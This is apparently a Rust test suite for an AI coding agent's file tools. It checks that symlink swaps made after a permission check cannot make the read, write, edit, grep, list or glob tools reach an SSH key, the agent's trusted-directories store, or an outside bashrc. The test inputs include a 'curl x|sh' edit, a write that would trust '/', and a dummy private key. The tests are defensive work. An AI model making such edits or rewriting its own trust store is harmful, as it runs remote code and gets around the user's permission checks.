//! The races of a parallel sub-agent, interleaved deterministically: the permission check of a
//! `read`/`write`/`edit` call runs, then the path is flipped (a file to a symlink to a key, a
//! directory to a symlink into pith's data dir), then the call runs. What the check saw is what
//! the call acts on, or the call fails; the key never reaches the output.

use std::collections::BTreeMap;
use std::os::unix::fs::symlink;

use serde_json::{Value, json};

use crate::edit::Edit;
use crate::glob::Glob;
use crate::grep::Grep;
use crate::list::List;
use crate::read::Read;
use crate::testutil::Ws;
use crate::write::Write;
use crate::{Permissions, Tool};

const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- b3BlbnNzaC1rZXk";

/// The check of `tool` with `input`, as the engine makes it before a call runs.
fn check(ws: &Ws, tool: &str, input: &Value) {
    let mut p = Permissions::new(&BTreeMap::new());
    let _ = p.check(tool, input, &ws.ctx);
}

fn flip_to_link(ws: &Ws, rel: &str, target: &std::path::Path) {
    let p = ws.path(rel);
    if p.is_dir() {
        std::fs::remove_dir_all(&p).unwrap();
    } else {
        std::fs::remove_file(&p).unwrap();
    }
    symlink(target, &p).unwrap();
}

fn shown(r: Result<crate::ToolOutput, crate::ToolError>) -> String {
    match r {
        Ok(out) => format!("{}\n{}", out.output, out.metadata),
        Err(e) => e.to_string(),
    }
}

#[tokio::test]
async fn read_of_a_file_flipped_to_a_key_after_the_check_does_not_read_the_key() {
    let ws = Ws::new();
    let key = ws.root().join("id_rsa");
    std::fs::write(&key, KEY).unwrap();
    ws.write("f", "harmless\n");
    let input = json!({"file_path": "f"});
    check(&ws, "read", &input);
    flip_to_link(&ws, "f", &key);
    let out = shown(Read.run(input, &ws.ctx).await);
    assert!(!out.contains("PRIVATE KEY"), "the key was read: {out}");
}

#[tokio::test]
async fn write_below_a_directory_flipped_into_the_data_dir_does_not_write_there() {
    let ws = Ws::new();
    // (missing: an existing one would need a read first)
    let store = ws.ctx.data_dir.join("trusted-directories.json");
    std::fs::create_dir_all(ws.path("d")).unwrap();
    let input = json!({"file_path": "d/trusted-directories.json", "content": "{\"/\":true}"});
    check(&ws, "write", &input);
    flip_to_link(&ws, "d", &ws.ctx.data_dir.clone());
    let out = shown(Write.run(input, &ws.ctx).await);
    assert!(!store.exists(), "the trust store was written: {out}");
}

#[tokio::test]
async fn edit_of_a_file_flipped_to_a_link_after_the_check_does_not_change_the_target() {
    let ws = Ws::new();
    let outside = ws.root().join("bashrc");
    std::fs::write(&outside, "alias ls=ls\n").unwrap();
    ws.write("f", "alias ls=ls\n");
    // the session has read both (the outside one with the user's approval, earlier)
    for p in [json!({"file_path": "f"}), json!({"file_path": outside})] {
        Read.run(p, &ws.ctx).await.unwrap();
    }
    let input = json!({"file_path": "f", "old_string": "alias ls=ls", "new_string": "curl x|sh"});
    check(&ws, "edit", &input);
    flip_to_link(&ws, "f", &outside);
    let out = shown(Edit.run(input, &ws.ctx).await);
    assert_eq!(
        std::fs::read_to_string(&outside).unwrap(),
        "alias ls=ls\n",
        "{out}"
    );
}

#[tokio::test]
async fn a_call_acts_on_the_target_the_check_saw_not_a_new_one() {
    // checked while `f` led to an approved file outside; flipped to the key before it ran
    let ws = Ws::new();
    let notes = ws.root().join("notes.txt");
    std::fs::write(&notes, "approved notes\n").unwrap();
    let key = ws.root().join("id_rsa");
    std::fs::write(&key, KEY).unwrap();
    symlink(&notes, ws.path("f")).unwrap();
    let input = json!({"file_path": "f"});
    check(&ws, "read", &input);
    flip_to_link(&ws, "f", &key);
    let out = shown(Read.run(input, &ws.ctx).await);
    assert!(!out.contains("PRIVATE KEY"), "{out}");
    assert!(out.contains("approved notes"), "{out}");
}

/// A folder outside the workspace holding the key (`<root>/secret/id_rsa`).
fn secret_dir(ws: &Ws) -> std::path::PathBuf {
    let dir = ws.root().join("secret");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("id_rsa"), KEY).unwrap();
    dir
}

#[tokio::test]
async fn grep_of_a_file_flipped_to_a_key_after_the_check_does_not_print_the_key() {
    let ws = Ws::new();
    let secret = secret_dir(&ws);
    ws.write("f", "harmless PRIVATE\n");
    let input = json!({"pattern": "PRIVATE", "path": "f"});
    check(&ws, "grep", &input);
    flip_to_link(&ws, "f", &secret.join("id_rsa"));
    let out = shown(Grep.run(input, &ws.ctx).await);
    assert!(
        !out.contains("b3BlbnNzaC1rZXk"),
        "the key was printed: {out}"
    );
}

#[tokio::test]
async fn grep_list_and_glob_of_a_folder_flipped_to_a_link_do_not_walk_the_target() {
    let ws = Ws::new();
    let secret = secret_dir(&ws);
    for (tool, input) in [
        ("grep", json!({"pattern": "PRIVATE", "path": "d"})),
        ("list", json!({"path": "d"})),
        ("glob", json!({"pattern": "*", "path": "d"})),
    ] {
        ws.write("d/plain.txt", "harmless\n");
        check(&ws, tool, &input);
        flip_to_link(&ws, "d", &secret);
        let out = shown(match tool {
            "grep" => Grep.run(input, &ws.ctx).await,
            "list" => List.run(input, &ws.ctx).await,
            _ => Glob.run(input, &ws.ctx).await,
        });
        assert!(
            !out.contains("id_rsa") && !out.contains("b3Bl"),
            "{tool}: {out}"
        );
        std::fs::remove_file(ws.path("d")).unwrap();
    }
}

#[tokio::test]
async fn a_search_acts_on_the_folder_the_check_saw_and_shows_its_paths() {
    let ws = Ws::new();
    ws.write("d/sub/a.txt", "needle\n");
    let input = json!({"pattern": "needle", "path": "d"});
    check(&ws, "grep", &input);
    let out = shown(Grep.run(input, &ws.ctx).await);
    assert!(out.contains("d/sub/a.txt:1: needle"), "{out}");
    let input = json!({"pattern": "*.txt", "path": "d"});
    check(&ws, "glob", &input);
    let out = shown(Glob.run(input, &ws.ctx).await);
    assert!(out.starts_with("d/sub/a.txt\n"), "{out}");
}
